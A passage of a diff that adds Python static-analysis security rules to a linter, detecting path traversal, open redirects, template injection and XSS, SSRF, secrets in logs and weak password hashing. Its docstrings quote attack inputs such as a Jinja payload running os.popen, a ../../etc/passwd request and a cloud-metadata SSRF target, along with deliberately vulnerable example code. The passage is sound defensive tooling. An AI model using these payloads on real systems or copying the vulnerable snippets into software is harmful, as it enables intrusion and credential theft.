+    local variables, `os.path.join`, `/`, f-strings and helper functions. Paths reduced to a
+    file name (`secure_filename`, `os.path.basename`, `Path(...).name`), paths checked to stay
+    under their base directory (`os.path.realpath(p).startswith(BASE)`,
+    `p.resolve().is_relative_to(BASE)`), `send_from_directory`, and route parameters that
+    match a single URL segment (`/files/{name}`, `<name>`: they cannot contain `/`) for file
+    reads and writes are not reported.
+
+    ## Why it breaks production
+    A `../` in the name walks out of the intended directory: `GET /download?file=../../
+    etc/passwd` or `../app/settings.py` leaks secrets and source, an upload named
+    `../../app/main.py` overwrites code, and a delete endpoint removes any file the service
+    can write. These are found by every scanner and exploited with a single request.
+
+    ## Example
+    ```python
+    @app.route("/uploads", methods=["POST"])
+    def upload():
+        file = request.files["document"]
+        file.save(os.path.join(UPLOAD_DIR, file.filename))
+        return {"ok": True}
+    ```
+
+    ## Use instead
+    ```python
+    @app.route("/uploads", methods=["POST"])
+    def upload():
+        file = request.files["document"]
+        file.save(os.path.join(UPLOAD_DIR, secure_filename(file.filename)))
+        return {"ok": True}
+    ```
+    To serve files, use `send_from_directory(UPLOAD_DIR, name)`, or resolve the path and check
+    `path.resolve().is_relative_to(UPLOAD_DIR)` before opening it.
+    """
+    if isinstance(node, ast.Module):
+        report_deferred(ctx)
+        return
+    if ctx.facts.is_test or not isinstance(node, ast.Call):
+        return
+    name = ctx.call_name or ""
+    func = node.func
+    method = func.attr if isinstance(func, ast.Attribute) else None
+    paths: list[ast.expr | None]
+    if name in _OPEN_FUNCTIONS or name in _DELETE_FUNCTIONS:
+        paths = [argument(node, 0, "file") or argument(node, None, "path")]
+        operation = f"{name.rsplit('.', 1)[-1]}()"
+    elif name in _TREE_FUNCTIONS:
+        paths = [argument(node, 0, "src") or argument(node, 0, "path"), argument(node, 1, "dst")]
+        operation = f"{name}()"
+    elif name in _SEND_FILE:
+        paths = [
+            argument(node, 0, "path_or_file")
+            or argument(node, None, "path")
+            or argument(node, None, "filename_or_fp")
+        ]
+        operation = f"{name.rsplit('.', 1)[-1]}()"
+    elif method in _PATH_METHODS and isinstance(func, ast.Attribute):
+        if not _is_path_object(func.value, ctx):
+            return
+        paths = [func.value]
+        operation = f"Path.{method}()"
+    elif method == "save" and isinstance(func, ast.Attribute):
+        if not node.args or not _is_upload(func.value, ctx):
+            return
+        paths = [node.args[0]]
+        operation = "FileStorage.save()"
+    else:
+        return
+    candidates = [
+        component
+        for path in paths
+        if path is not None and not is_literal(path)
+        for component in _path_components(path, ctx)
+    ]
+    if not candidates:
+        return
+    sanitizers = _PATH_SANITIZERS
+    if name not in _TREE_FUNCTIONS:
+        sanitizers = sanitizers | {SEGMENT_PARAMETERS}
+    serving = name in _SEND_FILE
+    advice = (
+        "Serve from a fixed directory with send_from_directory(DIR, name) (Flask) or check "
+        "that the resolved path stays under the directory"
+        if serving
+        else "Keep only the file name (werkzeug's secure_filename, os.path.basename) or check "
+        "that os.path.realpath(path).startswith(BASE_DIR) before using it"
+    )
+
+    def report(source: str) -> None:
+        ctx.report(
+            node,
+            f"{operation} uses a file path built from {source}: `../` in it reaches any file "
+            f"the service can access (path traversal). {advice}",
+        )
+
+    sink_flow(candidates, ctx, report, sanitizers=sanitizers, web_only=True)
+
+
+# -- SEC015 ------------------------------------------------------------------------------------
+
+_REDIRECTS = (
+    "flask.redirect",
+    "flask.helpers.redirect",
+    "werkzeug.utils.redirect",
+    "quart.redirect",
+    "django.shortcuts.redirect",
+    "django.http.HttpResponseRedirect",
+    "django.http.response.HttpResponseRedirect",
+    "django.http.HttpResponsePermanentRedirect",
+    "django.http.response.HttpResponsePermanentRedirect",
+    "starlette.responses.RedirectResponse",
+    "fastapi.responses.RedirectResponse",
+)
+_REDIRECT_SANITIZERS = frozenset(
+    {"flask.url_for", "flask.helpers.url_for", "url_for", "django.urls.reverse", "reverse"}
+    | {"django.urls.reverse_lazy", "reverse_lazy", SAFE_REDIRECT_CHECK, URL_HOST_CHECK}
+    # the service's own address: not chosen by whoever wrote the link
+    | {"request.url", "request.base_url", "request.url_root", "request.host_url"}
+    | {"request.path", "request.full_path", "request.path_info", "request.script_root"}
+)
+
+
+@python_rule(
+    code="SEC015",
+    name="open-redirect",
+    category=Category.SECURITY,
+    severity=Severity.MEDIUM,
+    summary="Redirect to a URL taken from the request: links to your site bounce to phishing",
+    calls=_REDIRECTS,
+    nodes=(ModuleEnd,),
+    cwe=601,
+    fix="Redirect only to relative paths or allowed hosts (url_has_allowed_host_and_scheme), "
+    "or to url_for()/reverse() of a view.",
+)
+def open_redirect(node: ast.AST, ctx: PythonContext) -> None:
+    """
+    ## What it does
+    Flags Flask `redirect`, Django `redirect`/`HttpResponseRedirect` and Starlette/FastAPI
+    `RedirectResponse` whose target URL comes from the request (`?next=`, a form field, a
+    handler parameter) in the part that decides the host: `redirect(f"/orders/{order_id}")`
+    and `redirect(f"{FRONTEND_URL}/done?ref={ref}")` keep their host and are fine. Not
+    reported either: targets built with `url_for()`/`reverse()`, and functions that check
+    the URL first (`url_has_allowed_host_and_scheme`, an `is_safe_url` helper,
+    `urlparse(url).netloc` tests, or `url.startswith("/") and not url.startswith("//")`).
+    Redirects to the `Referer` or to the current request's own URL are not reported.
+
+    ## Why it breaks production
+    A link such as `https://your-bank.example/login?next=https://your-bank.example.evil.io`
+    looks trustworthy, and after the login the user lands on the attacker's copy of your site,
+    which asks for the password again or for a payment. Open redirects also defeat OAuth
+    redirect-URI checks and turn up in every security review and bug-bounty report.
+
+    ## Example
+    ```python
+    @app.post("/login")
+    def login():
+        ...
+        return redirect(request.args.get("next", "/"))
+    ```
+
+    ## Use instead
+    ```python
+    @app.post("/login")
+    def login():
+        ...
+        target = request.args.get("next", "/")
+        if not target.startswith("/") or target.startswith("//"):
+            target = "/"
+        return redirect(target)
+    ```
+    Django: `url_has_allowed_host_and_scheme(target, allowed_hosts={request.get_host()})`.
+    """
+    if isinstance(node, ast.Module):
+        report_deferred(ctx)
+        return
+    if ctx.facts.is_test or not isinstance(node, ast.Call):
+        return
+    target = (
+        argument(node, 0, "location")
+        or argument(node, None, "url")
+        or argument(node, None, "to")
+        or argument(node, None, "redirect_to")
+    )
+    if target is None or is_literal(target):
+        return
+    deciding = _host_deciding(target, ctx)
+    if not deciding:
+        return
+    name = (ctx.call_name or "redirect").rsplit(".", 1)[-1]
+
+    def report(source: str) -> None:
+        if "referer" in source.lower() or "referrer" in source.lower():
+            return  # back to the page the user came from: the attacker gains nothing
+        ctx.report(
+            node,
+            f"{name}() sends the browser to a URL taken from {source}: a link to this "
+            "endpoint can bounce your users to any site, e.g. a look-alike login page (open "
+            "redirect). Redirect only to relative paths or allowed hosts "
+            "(url_has_allowed_host_and_scheme, url_for/reverse)",
+        )
+
+    sink_flow(deciding, ctx, report, sanitizers=_REDIRECT_SANITIZERS, web_only=True)
+
+
+# -- SEC016 ------------------------------------------------------------------------------------
+
+_TEMPLATE_SOURCES = (
+    "flask.render_template_string",
+    "flask.templating.render_template_string",
+    "quart.render_template_string",
+    "jinja2.Template",
+    "jinja2.environment.Template",
+)
+_SAFE_MARKUP = (
+    "markupsafe.Markup",
+    "flask.Markup",
+    "jinja2.Markup",
+    "django.utils.safestring.mark_safe",
+    "django.utils.safestring.SafeString",
+    "django.utils.html.format_html",
+)
+_HTML_RESPONSES = (
+    "starlette.responses.HTMLResponse",
+    "fastapi.responses.HTMLResponse",
+    "django.http.HttpResponse",
+    "django.http.response.HttpResponse",
+)
+_JINJA_ENVIRONMENTS = ("jinja2.Environment", "jinja2.environment.Environment")
+_HTML_ESCAPES = frozenset(
+    {"markupsafe.escape", "html.escape", "django.utils.html.escape", "flask.escape"}
+    | {"jinja2.escape", "escape", "conditional_escape", "django.utils.html.conditional_escape"}
+    | {"bleach.clean", "nh3.clean", "clean", "django.utils.html.escapejs", "escapejs"}
+    | {"markupsafe.Markup.escape"}
+)
+_HTML_TAG = re.compile(r"<\s*/?\s*[a-zA-Z][a-zA-Z0-9-]*[\s>/]|<!--")
+_HTML_EVIDENCE = re.compile(r"""\.html?['"]|text/html|HTMLResponse|TemplateResponse""")
+
+
+def _html_built_from(content: ast.expr, ctx: PythonContext) -> list[ast.expr]:
+    """The values interpolated into an HTML string literal (``f"<h1>{name}</h1>"``)."""
+    pieces = _pieces(content, ctx, {})
+    if not any(isinstance(p, str) and _HTML_TAG.search(p) for p in pieces):
+        return []
+    return [p for p in pieces if not isinstance(p, str)]
+
+
+@python_rule(
+    code="SEC016",
+    name="template-injection-or-xss",
+    category=Category.SECURITY,
+    severity=Severity.HIGH,
+    summary="Request data used as template source or marked safe HTML (SSTI / XSS)",
+    calls=(
+        *_TEMPLATE_SOURCES,
+        "*.from_string",
+        *_SAFE_MARKUP,
+        *_HTML_RESPONSES,
+        *_JINJA_ENVIRONMENTS,
+    ),
+    nodes=(ast.Return, ModuleEnd),
+    cwe=79,
+    fix="Keep templates constant and pass data as variables; let autoescaping escape it.",
+)
+def template_injection_or_xss(node: ast.AST, ctx: PythonContext) -> None:
+    """
+    ## What it does
+    Flags request data that reaches HTML unescaped or becomes template code:
+    - used as the *source* of a template: `render_template_string(tainted)`,
+      `jinja2.Template(tainted)`, `env.from_string(tainted)` (server-side template injection);
+    - wrapped as safe HTML: `Markup(...)`, Django `mark_safe(...)`/`SafeString(...)`, or used
+      in the format string of `format_html(...)` (its arguments are escaped, the format
+      string is not);
+    - interpolated into an HTML string returned as `HTMLResponse`/`HttpResponse` or from a
+      Flask view (reflected XSS);
+    - and a `jinja2.Environment(loader=...)` created without `autoescape` (or with
+      `autoescape=False`) in a service module that renders HTML templates. Flask's and
+      Starlette's own template environments autoescape and are not reported.
+    Values passed through `escape()`/`html.escape()`/`bleach.clean()` are fine.
+
+    ## Why it breaks production
+    Template source from the request runs on the server: `{{ cycler.__init__.__globals__.os
+    .popen('id').read() }}` is remote code execution. Unescaped request data in a page runs
+    the attacker's JavaScript in your users' sessions (stolen sessions, actions on their
+    behalf); a link is enough to deliver it.
+
+    ## Example
+    ```python
+    @app.get("/hello")
+    def hello():
+        name = request.args.get("name", "")
+        return render_template_string(f"<h1>Hello {name}</h1>")
+    ```
+
+    ## Use instead
+    ```python
+    @app.get("/hello")
+    def hello():
+        name = request.args.get("name", "")
+        return render_template_string("<h1>Hello {{ name }}</h1>", name=name)
+    ```
+    Create Jinja environments with `autoescape=select_autoescape()`.
+    """
+    if isinstance(node, ast.Module):
+        report_deferred(ctx)
+        _report_environments(ctx)
+        return
+    if ctx.facts.is_test:
+        return
+    if isinstance(node, ast.Return):
+        _flask_html_return(node, ctx)
+        return
+    if not isinstance(node, ast.Call):
+        return
+    name = ctx.call_name or ""
+    short = name.rsplit(".", 1)[-1] if name else "from_string"
+    if name in _JINJA_ENVIRONMENTS:
+        if not has_star_kwargs(node):
+            ctx.rule_state(list, module=True).append(node)
+        return
+    source_argument = argument(node, 0, "source")
+    if name in _TEMPLATE_SOURCES or (
+        isinstance(node.func, ast.Attribute) and node.func.attr == "from_string"
+    ):
+        if name not in _TEMPLATE_SOURCES and not _jinja_receiver(node.func, ctx):
+            return
+        if source_argument is None or is_literal(source_argument):
+            return
+
+        def report_ssti(source: str) -> None:
+            ctx.report(
+                node,
+                f"{short}() compiles a template whose source comes from {source}: template "
+                "syntax in it runs on the server, e.g. {{ cycler.__init__.__globals__.os"
+                ".popen('id').read() }} (server-side template injection, CWE-1336). Keep the "
+                "template constant and pass the data as variables",
+                severity=Severity.CRITICAL,
+            )
+
+        sink_flow([source_argument], ctx, report_ssti, web_only=True)
+        return
+    if name in _SAFE_MARKUP:
+        content = argument(node, 0, "format_string" if short == "format_html" else "s")
+        if content is None or is_literal(content):
+            return
+        pieces = _pieces(content, ctx, {})
+        values = [p for p in pieces if not isinstance(p, str)]
+        what = "the format string of format_html()" if short == "format_html" else f"{short}()"
+
+        def report_safe(source: str) -> None:
+            ctx.report(
+                node,
+                f"{what} marks HTML built from {source} as safe: its <script> runs in your "
+                "users' browsers (cross-site scripting). Escape the value "
+                '(format_html("<b>{}</b>", value), Markup("<b>%s</b>") % value) or let the '
+                "template autoescape it",
+            )
+
+        sink_flow(values, ctx, report_safe, sanitizers=_HTML_ESCAPES, web_only=True)
+        return
+    if name in _HTML_RESPONSES:
+        content = argument(node, 0, "content")
+        if content is None or is_literal(content):
+            return
+        values = _html_built_from(content, ctx)
+
+        def report_html(source: str) -> None:
+            ctx.report(
+                node,
+                f"{short} returns HTML built from {source} without escaping it: a <script> in "
+                "the value runs in your users' browsers (reflected cross-site scripting). "
+                "Render a template (autoescaped) or html.escape() the value",
+            )
+
+        sink_flow(values, ctx, report_html, sanitizers=_HTML_ESCAPES, web_only=True)
+
+
+def _jinja_receiver(func: ast.expr, ctx: PythonContext) -> bool:
+    if not isinstance(func, ast.Attribute):
+        return False
+    receiver = (ctx.qualname(func.value) or dotted(func.value) or "").lower()
+    return "jinja" in receiver or receiver.rsplit(".", 1)[-1] in {"env", "environment"}
+
+
+def _flask_html_return(node: ast.Return, ctx: PythonContext) -> None:
+    """A Flask view returning an f-string of HTML: Flask serves a str as text/html."""
+    route = ctx.route
+    if route is None or route.framework not in {"flask", "quart"} or node.value is None:
+        return
+    if not isinstance(node.value, ast.JoinedStr | ast.BinOp | ast.Call | ast.Name):
+        return
+    values = _html_built_from(node.value, ctx)
+    if not values:
+        return
+
+    def report(source: str) -> None:
+        ctx.report(
+            node,
+            f"the view returns HTML built from {source} without escaping it: Flask serves it "
+            "as text/html and a <script> in the value runs in your users' browsers "
+            "(reflected cross-site scripting). Use render_template() or markupsafe.escape()",
+        )
+
+    sink_flow(values, ctx, report, sanitizers=_HTML_ESCAPES, web_only=True)
+
+
+def _report_environments(ctx: PythonContext) -> None:
+    environments: list[ast.Call] = ctx.rule_state(list, module=True)
+    if not environments or not in_service_code(ctx):
+        return
+    if not _HTML_EVIDENCE.search(ctx.source):
+        return  # templates for e-mails, prompts or config files: not a page
+    for call in environments:
+        if keyword_value(call, "loader") is None:
+            continue  # ``Environment().from_string(...)`` for text snippets, not pages
+        autoescape = keyword_value(call, "autoescape")
+        if isinstance(autoescape, ast.Name):
+            autoescape = ctx.value_of(autoescape.id) or autoescape
+        if autoescape is not None and not is_false(autoescape):
+            continue
+        what = "autoescape=False" if autoescape is not None else "no autoescape"
+        ctx.report(
+            call,
+            f"jinja2.Environment() with {what} in a module that renders HTML: every "
+            "{{ value }} from a request is inserted into the page unescaped (cross-site "
+            "scripting). Pass autoescape=select_autoescape() (or True)",
+            confidence=Confidence.MEDIUM,
+        )
+
+
+# -- SEC017 ------------------------------------------------------------------------------------
+
+_HTTP_VERBS = frozenset({"get", "post", "put", "patch", "delete", "head", "options"})
+_HTTP_CLIENT_PREFIXES = ("requests.", "httpx.", "aiohttp.", "urllib3.")
+_SSRF_SANITIZERS = frozenset({URL_HOST_CHECK})
+
+
+def _outbound_url(node: ast.Call, name: str) -> ast.expr | None:
+    """The URL argument of an HTTP client call (None: not a request)."""
+    last = name.rsplit(".", 1)[-1]
+    if name in {"urllib.request.urlopen", "urllib.request.Request"}:
+        return argument(node, 0, "url")
+    if not name.startswith(_HTTP_CLIENT_PREFIXES):
+        return None
+    if last in _HTTP_VERBS or last in {"ws_connect", "urlopen"}:
+        return argument(node, 0, "url")
+    if last in {"request", "stream"}:
+        return argument(node, 1, "url")
+    return None
+
+
+@python_rule(
+    code="SEC017",
+    name="server-side-request-forgery",
+    category=Category.SECURITY,
+    severity=Severity.HIGH,
+    summary="Outbound HTTP request to a URL taken from the request (SSRF)",
+    calls=("requests.*", "httpx.*", "aiohttp.*", "urllib3.*", "urllib.request.*"),
+    nodes=(ModuleEnd,),
+    cwe=918,
+    fix="Only fetch hosts from an allow-list: check urlparse(url).hostname in ALLOWED_HOSTS.",
+)
+def server_side_request_forgery(node: ast.AST, ctx: PythonContext) -> None:
+    """
+    ## What it does
+    Flags `requests`, `httpx` (functions and `Client`/`AsyncClient` methods), `aiohttp`
+    session methods, `urllib3` and `urllib.request.urlopen` calls whose URL comes from the
+    request in the part that decides the host -- `requests.get(url)` with `url` from a query
+    parameter, or `f"https://{host}/api"`. URLs whose host is fixed by the code
+    (`f"{API_BASE}/users/{user_id}"`, `f"https://api.example.com/items/{sku}"`) are fine, as
+    are functions that check the host first (`urlparse(url).hostname in ALLOWED_HOSTS`,
+    `url.startswith("https://api.example.com/")`, an `is_allowed_url(url)` helper).
+
+    ## Why it breaks production
+    The service fetches whatever the client names, from inside your network: the cloud
+    metadata endpoint (`http://169.254.169.254/` -- instance credentials), admin ports on
+    localhost, internal services without authentication, and file or gopher URLs in some
+    clients. Responses or timing leak what is there; webhooks, URL previews and "import from
+    URL" features are the usual entry points.
+
+    ## Example
+    ```python
+    @app.post("/preview")
+    def preview(url: str):
+        page = requests.get(url, timeout=5)
+        return {"title": extract_title(page.text)}
+    ```
+
+    ## Use instead
+    ```python
+    @app.post("/preview")
+    def preview(url: str):
+        if urlparse(url).hostname not in ALLOWED_PREVIEW_HOSTS:
+            raise HTTPException(400, "host not allowed")
+        page = requests.get(url, timeout=5, allow_redirects=False)
+        return {"title": extract_title(page.text)}
+    ```
+    When any public URL must be accepted, resolve the host and refuse private, loopback and
+    link-local addresses, and do not follow redirects blindly.
+    """
+    if isinstance(node, ast.Module):
+        report_deferred(ctx)
+        return
+    if ctx.facts.is_test or not isinstance(node, ast.Call):
+        return
+    name = ctx.call_name or ""
+    url = _outbound_url(node, name)
+    if url is None or is_literal(url):
+        return
+    deciding = _host_deciding(url, ctx)
+    if not deciding:
+        return
+    parts = name.split(".")
+    if len(parts) > 2 and parts[-2][:1].isupper():
+        short = f"{parts[-2]}.{parts[-1]}"  # ``Session.get``, ``AsyncClient.post``
+    elif parts[0] in {"requests", "httpx", "urllib3"}:
+        short = f"{parts[0]}.{parts[-1]}"
+    else:
+        short = parts[-1]
+
+    def report(source: str) -> None:
+        ctx.report(
+            node,
+            f"{short}() fetches a URL taken from {source}: the client can make the service "
+            "call internal addresses -- cloud metadata (169.254.169.254), localhost admin "
+            "ports, internal APIs (server-side request forgery). Check urlparse(url).hostname "
+            "against an allow-list (and refuse private IPs) before fetching",
+        )
+
+    sink_flow(deciding, ctx, report, sanitizers=_SSRF_SANITIZERS, web_only=True)
+
+
+# -- SEC018 ------------------------------------------------------------------------------------
+
+_LOG_METHOD_CALLS = tuple(
+    f"*.{m}"
+    for m in ("debug", "info", "warning", "warn", "error", "exception", "critical", "fatal", "log")
+)
+_LOG_OPTIONS = frozenset({"exc_info", "stack_info", "stacklevel", "extra"})
+_TEXT_CONVERSIONS = frozenset({"str", "repr", "format", "decode", "encode", "strip"})
+_HEADER_CONTAINERS = frozenset({"headers", "META", "cookies", "COOKIES"})
+
+
+def _secret_reference(expr: ast.AST, ctx: PythonContext, depth: int = 0) -> str | None:
+    """The credential a logged value shows in clear (``password``, ``self.api_key``,
+    ``request.headers["Authorization"]``, ``os.getenv("API_TOKEN")``, the request headers
+    as a whole); None for masked or derived values (``len(password)``, ``token[-4:]``)."""
+    if depth > 3:
+        return None
+    if isinstance(expr, ast.FormattedValue):
+        return _secret_reference(expr.value, ctx, depth + 1)
+    if isinstance(expr, ast.Name):
+        return f"`{expr.id}`" if secret_name(expr.id) else None
+    if isinstance(expr, ast.Attribute):
+        if secret_name(expr.attr):
+            return f"`{ctx.segment(expr) or expr.attr}`"
+        if expr.attr in _HEADER_CONTAINERS and _is_request_value(expr.value, ctx):
+            return f"the request headers `{ctx.segment(expr)}` (Authorization, Cookie)"
+        return None
+    if isinstance(expr, ast.Subscript):
+        if isinstance(expr.slice, ast.Slice):
+            return None  # ``token[-4:]``: a masked form
+        key = constant_str(expr.slice)
+        if key is not None and secret_name(key):
+            return f"`{' '.join(ctx.segment(expr).split())[:60]}`"
+        return None
+    if isinstance(expr, ast.Call):
+        func = expr.func
+        last = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
+        if last in {"get", "getenv", "pop"} and expr.args:
+            key = constant_str(expr.args[0])
+            if key is not None and secret_name(key):
+                return f"`{' '.join(ctx.segment(expr).split())[:60]}`"
+            return None
+        if last in _TEXT_CONVERSIONS or last == "dict":
+            inner = func.value if isinstance(func, ast.Attribute) and last != "dict" else None
+            target = inner if inner is not None else (expr.args[0] if expr.args else None)
+            if isinstance(func, ast.Attribute) and last in {"format"}:
+                return None
+            return _secret_reference(target, ctx, depth + 1) if target is not None else None
+    return None
+
+
+def _is_request_value(expr: ast.AST, ctx: PythonContext) -> bool:
+    qualified = ctx.qualname(expr) if isinstance(expr, ast.Name | ast.Attribute) else None
+    if qualified in {"flask.request", "quart.request"}:
+        return True
+    return isinstance(expr, ast.Name) and expr.id in {"request", "req"}
+
+
+def _logged_values(node: ast.Call, ctx: PythonContext, is_print: bool) -> list[ast.expr]:
+    values: list[ast.expr] = []
+    args = list(node.args)
+    if not is_print and isinstance(node.func, ast.Attribute) and node.func.attr == "log":
+        args = args[1:]  # the level
+    for index, arg in enumerate(args):
+        if isinstance(arg, ast.Starred):
+            continue
+        if index == 0 or is_print:
+            values.extend(p for p in _pieces(arg, ctx, {}) if not isinstance(p, str))
+        else:
+            values.append(arg)  # ``%s`` arguments
+    for keyword in node.keywords:
+        if keyword.arg == "extra" and isinstance(keyword.value, ast.Dict):
+            for key, value in zip(keyword.value.keys, keyword.value.values, strict=True):
+                if (
+                    key is not None
+                    and secret_name(constant_str(key) or "")
+                    and not (is_literal(value))
+                ):
+                    values.append(key)
+                values.append(value)
+        elif keyword.arg is not None and keyword.arg not in _LOG_OPTIONS and not is_print:
+            values.append(keyword.value)  # structlog-style ``logger.info("login", token=t)``
+    return values
+
+
+@python_rule(
+    code="SEC018",
+    name="secret-in-log-message",
+    category=Category.SECURITY,
+    severity=Severity.HIGH,
+    summary="Password, token, API key or Authorization header written to the logs",
+    calls=(*_LOG_METHOD_CALLS, "builtins.print"),
+    cwe=532,
+    fix="Do not log credentials; log whether one is set, or its last 4 characters.",
+)
+def secret_in_log_message(node: ast.Call, ctx: PythonContext) -> None:
+    """
+    ## What it does
+    Flags logging calls (`logger.info/debug/warning/error/exception`, `logging.*`,
+    structlog) and `print()` in service code whose message interpolates a credential -- a
+    value named `password`, `api_key`, `token`, `client_secret`, `SECRET_KEY`..., a
+    `["password"]`/`.get("api_key")` lookup, `request.headers["Authorization"]` or the whole
+    request headers -- through an f-string, `%`, `.format()`, `%s` arguments, `extra=` or
+    keyword arguments. Derived or masked values (`len(password)`, `token[-4:]`,
+    `api_key is not None`, `"***"`) and names that are not credentials (`token_type`,
+    `csrf_token`, `password_reset_url`) are fine.
+
+    ## Why it breaks production
+    Logs are shipped to aggregators and third-party services, kept for months, copied into
+    tickets and readable by far more people than the credential's owners. A password or a
+    bearer token in a log line is a credential leak that outlives the rotation of the
+    database it came from, and it is often how incident reports start.
+
+    ## Example
+    ```python
+    logger.info(f"login attempt user={username} password={password}")
+    ```
+
+    ## Use instead
+    ```python
+    logger.info("login attempt user=%s", username)
+    ```
+    """
+    if ctx.facts.is_test or ctx.facts.is_example:
+        return
+    is_print = ctx.call_name == "builtins.print"
+    if is_print:
+        if not in_service_code(ctx):
+            return
+    elif log_call(node, ctx) is None:
+        return
+    for value in _logged_values(node, ctx, is_print):
+        if isinstance(value, ast.Constant):
+            if isinstance(value.value, str) and secret_name(value.value):
+                what: str | None = f'the "{value.value}" field'
+            else:
+                continue
+        else:
+            what = _secret_reference(value, ctx)
+        if what is None:
+            continue
+        sink = "print() writes" if is_print else "this log call writes"
+        ctx.report(
+            node,
+            f"{sink} {what} to the logs: credentials there are shipped to aggregators, kept "
+            "for months and readable by far more people than their owners (credential leak). "
+            "Log that it is set, or a masked form (its last 4 characters), never the value",
+        )
+        return
+
+
+# -- SEC019 ------------------------------------------------------------------------------------
+
+_WEAK_PASSLIB_SCHEMES = frozenset(
+    {"md5_crypt", "des_crypt", "bsdi_crypt", "bigcrypt", "crypt16", "apr_md5_crypt"}
+    | {"sun_md5_crypt", "ldap_md5", "ldap_salted_md5", "ldap_sha1", "ldap_salted_sha1"}
+    | {"ldap_plaintext", "ldap_hex_md5", "ldap_hex_sha1", "ldap_des_crypt", "ldap_md5_crypt"}
+    | {"plaintext", "hex_md5", "hex_sha1", "hex_sha256", "hex_sha512", "mysql323", "mysql41"}
+    | {"postgres_md5", "oracle10", "oracle11", "lmhash", "nthash", "msdcc", "msdcc2"}
+    | {"cisco_pix", "cisco_asa", "cisco_type7", "htdigest", "roundup_plaintext"}
+    | {"django_salted_md5", "django_salted_sha1", "django_des_crypt", "django_disabled"}
+)
+_WEAK_DJANGO_HASHERS = (
+    "MD5PasswordHasher",
+    "SHA1PasswordHasher",
+    "UnsaltedMD5PasswordHasher",
+    "UnsaltedSHA1PasswordHasher",
+    "CryptPasswordHasher",
+)
+_MIN_BCRYPT_ROUNDS = 10
+_MIN_PBKDF2_ITERATIONS = 100_000
+_PBKDF2_CALLS = (
+    "hashlib.pbkdf2_hmac",
+    "cryptography.hazmat.primitives.kdf.pbkdf2.PBKDF2HMAC",
+)
+
+
+def _int_value(expr: ast.expr | None, ctx: PythonContext) -> int | None:
+    if isinstance(expr, ast.Name):
+        expr = ctx.value_of(expr.id)
+    if isinstance(expr, ast.BinOp) and isinstance(expr.op, ast.Mult):
+        left, right = _int_value(expr.left, ctx), _int_value(expr.right, ctx)
+        return left * right if left is not None and right is not None else None
+    if isinstance(expr, ast.Constant) and type(expr.value) is int:
+        return expr.value
+    return None
+
+
+def _strings(expr: ast.expr | None, ctx: PythonContext) -> list[str] | None:
+    if isinstance(expr, ast.Name):
+        expr = ctx.value_of(expr.id) or _module_value(expr.id, ctx)
+    if isinstance(expr, ast.List | ast.Tuple):
+        texts = [constant_str(e) for e in expr.elts]
+        return [t for t in texts if t is not None]
+    text = constant_str(expr)
+    return [text] if text is not None else None
+
+
+@python_rule(
+    code="SEC019",
+    name="weak-password-scheme",
+    category=Category.SECURITY,
+    severity=Severity.HIGH,
+    summary="Password hashing configured with a broken scheme or too few rounds/iterations",
+    calls=("passlib.context.CryptContext", "bcrypt.gensalt", *_PBKDF2_CALLS, "*.using"),
+    nodes=(ast.Assign,),
+    cwe=916,
+    fix="Use argon2 or bcrypt (>= 12 rounds), or PBKDF2-SHA256 with >= 600000 iterations.",
+)
+def weak_password_scheme(node: ast.AST, ctx: PythonContext) -> None:
+    """
+    ## What it does
+    Flags password hashing set up with a scheme or cost that a stolen hash table does not
+    survive: a passlib `CryptContext(schemes=[...])` whose default scheme is broken
+    (`md5_crypt`, `des_crypt`, `ldap_md5`, `hex_sha256`, `plaintext`...; legacy schemes listed
+    after a strong default and marked `deprecated="auto"` are fine -- they are upgraded on
+    login), `bcrypt.gensalt(rounds=...)` below 10, `hashlib.pbkdf2_hmac`/`PBKDF2HMAC` or
+    passlib `.using(rounds=...)` with fewer than 100,000 iterations, and a Django
+    `PASSWORD_HASHERS` whose first (default) hasher is MD5, SHA1, unsalted or crypt in a
+    settings module (test and local settings, which use fast hashers on purpose, are not
+    reported).
+
+    ## Why it breaks production
+    When the user table leaks, the hash scheme is all that stands between the attacker and
+    your users' passwords -- which they reuse for e-mail and banking. MD5-crypt, DES-crypt and
+    unsalted hashes fall to commodity GPUs in hours; a few thousand PBKDF2 iterations or
+    bcrypt cost 4 are millions of guesses per second.
+
+    ## Example
+    ```python
+    pwd_context = CryptContext(schemes=["md5_crypt"])
+    salt = bcrypt.gensalt(rounds=4)
+    key = hashlib.pbkdf2_hmac("sha256", password, salt, 1000)
+    ```
+
+    ## Use instead
+    ```python
+    pwd_context = CryptContext(schemes=["argon2", "md5_crypt"], deprecated="auto")
+    salt = bcrypt.gensalt()  # 12 rounds
+    key = hashlib.pbkdf2_hmac("sha256", password, salt, 600_000)
+    ```
+    """
+    if ctx.facts.is_test:
+        return
+    if isinstance(node, ast.Assign):
+        _django_hashers(node, ctx)
+        return
+    if not isinstance(node, ast.Call):
+        return
+    name = ctx.call_name or ""
+    if name == "passlib.context.CryptContext":
+        _crypt_context(node, ctx)
+    elif name == "bcrypt.gensalt":
+        rounds = _int_value(argument(node, 0, "rounds"), ctx)
+        if rounds is not None and rounds < _MIN_BCRYPT_ROUNDS:
+            ctx.report(
+                node,
+                f"bcrypt.gensalt(rounds={rounds}): cost {rounds} is {2 ** (12 - rounds)}x "
+                "cheaper to brute-force than the default 12. Use bcrypt.gensalt() (12) or more",
+            )
+    elif name in _PBKDF2_CALLS:
+        iterations = _int_value(argument(node, 3, "iterations"), ctx)
+        if iterations is not None and iterations < _MIN_PBKDF2_ITERATIONS:
+            ctx.report(
+                node,
+                f"PBKDF2 with {iterations:,} iterations: a leaked hash is brute-forced at "
+                "millions of guesses per second. Use >= 600,000 iterations for SHA-256 "
+                "(OWASP), or argon2/bcrypt",
+            )
+    elif isinstance(node.func, ast.Attribute) and node.func.attr == "using":
+        _passlib_using(node, ctx)
+
+
+def _crypt_context(node: ast.Call, ctx: PythonContext) -> None:
+    schemes = _strings(argument(node, 0, "schemes"), ctx)
+    if not schemes:
+        return
+    default = constant_str(keyword_value(node, "default")) or schemes[0]
+    if default not in _WEAK_PASSLIB_SCHEMES:
+        return
+    ctx.report(
+        node,
+        f'CryptContext hashes new passwords with "{default}", a scheme that falls to GPU '
+        "cracking in hours once the user table leaks. Make argon2 or bcrypt the first scheme "
+        'and keep old ones only for verification with deprecated="auto"',
+    )
+
+
+def _passlib_using(node: ast.Call, ctx: PythonContext) -> None:
+    assert isinstance(node.func, ast.Attribute)
+    receiver = ctx.qualname(node.func.value) or ""
+    if not receiver.startswith("passlib.hash."):
+        return
+    scheme = receiver.rsplit(".", 1)[-1]
+    rounds = _int_value(keyword_value(node, "rounds"), ctx)
+    if rounds is None:
+        return
+    minimum = (
